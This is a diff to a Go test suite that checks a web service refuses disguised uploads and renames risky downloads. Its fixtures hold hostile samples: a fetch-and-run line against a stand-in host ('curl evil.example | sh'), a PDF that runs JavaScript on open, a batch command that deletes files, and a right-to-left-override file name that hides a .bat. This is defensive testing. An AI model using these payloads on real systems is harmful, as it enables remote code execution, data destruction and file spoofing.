@@ -1,6 +1,7 @@
 package web_test
 
 import (
+	"archive/zip"
 	"bytes"
 	"context"
 	"io"
@@ -120,6 +121,11 @@ func TestUploadsAreJudgedByTheirBytes(t *testing.T) {
 		{"truncated pdf", "scan.pdf", "application/pdf", []byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog"), http.StatusUnprocessableEntity},
 		// Attack: text with a NUL (a binary smuggled as text).
 		{"NUL in text", "a.txt", "text/plain", []byte("abc\x00def"), http.StatusUnsupportedMediaType},
+		// Attack: an all-ASCII PDF that runs JavaScript, behind a newline so that it looks like
+		// text; a PDF reader finds its header anyway.
+		{"pdf behind a newline", "notes.txt", "text/plain", []byte("\n%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"), http.StatusUnprocessableEntity},
+		// Attack: a script behind a blank line.
+		{"script behind a blank line", "notes.txt", "text/plain", []byte("\n#!/bin/sh\ncurl evil.example | sh\n"), http.StatusUnsupportedMediaType},
 		// Attack: a file over the limit.
 		{"too large", "big.txt", "text/plain", bytes.Repeat([]byte("a"), 1<<20+1), http.StatusRequestEntityTooLarge},
 	}
@@ -138,6 +144,52 @@ func TestUploadsAreJudgedByTheirBytes(t *testing.T) {
 	}
 	if l := e.do("GET", "/api/files", ana, nil).json(t)["items"].([]any); len(l) != 0 {
 		t.Fatalf("a refused upload was stored: %v", l)
+	}
+}
+
+func TestDownloadsAreNamedForWhatTheirBytesAre(t *testing.T) {
+	t.Parallel()
+	e := MustEnv(t)
+	ana := e.MustVerifiedUser("ana@example.com")
+	// Text that would run if it were opened under its own name, and a name whose
+	// right-to-left override shows "invoicetab.txt" for a .bat.
+	for name, want := range map[string]string{
+		"run.bat":              "run.bat.txt",
+		"invoice\u202etxt.bat": "invoicetxt.bat.txt",
+		"notes.txt":            "notes.txt",
+	} {
+		r := e.upload(ana, "file", name, "application/pdf", []byte("@echo off\r\ndel /q *\r\n"))
+		if r.status != http.StatusCreated {
+			t.Fatalf("upload %q: %d %s", name, r.status, r.body)
+		}
+		f := r.json(t)
+		if strings.ContainsRune(f["name"].(string), '\u202e') {
+			t.Errorf("stored name keeps a bidi override: %q", f["name"])
+		}
+		d := e.do("GET", "/api/files/"+f["id"].(string)+"/content", ana, nil)
+		if cd := d.header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="`+want+`"; filename*=UTF-8''`+want) {
+			t.Errorf("%q: Content-Disposition %q, want the name %q", name, cd, want)
+		}
+	}
+	r, err := e.get("/api/me/export?include=files", ana)
+	if err != nil || r.status != http.StatusOK {
+		t.Fatalf("zip export: %d %v", r.status, err)
+	}
+	z, err := zip.NewReader(bytes.NewReader(r.body), int64(len(r.body)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := 0
+	for _, f := range z.File {
+		if strings.HasPrefix(f.Name, "files/") {
+			n++
+			if !strings.HasSuffix(f.Name, ".txt") || strings.ContainsRune(f.Name, '\u202e') {
+				t.Errorf("archive entry %q is not named as text", f.Name)
+			}
+		}
+	}
+	if n != 3 {
+		t.Fatalf("%d files in the archive, want 3", n)
 	}
 }
 
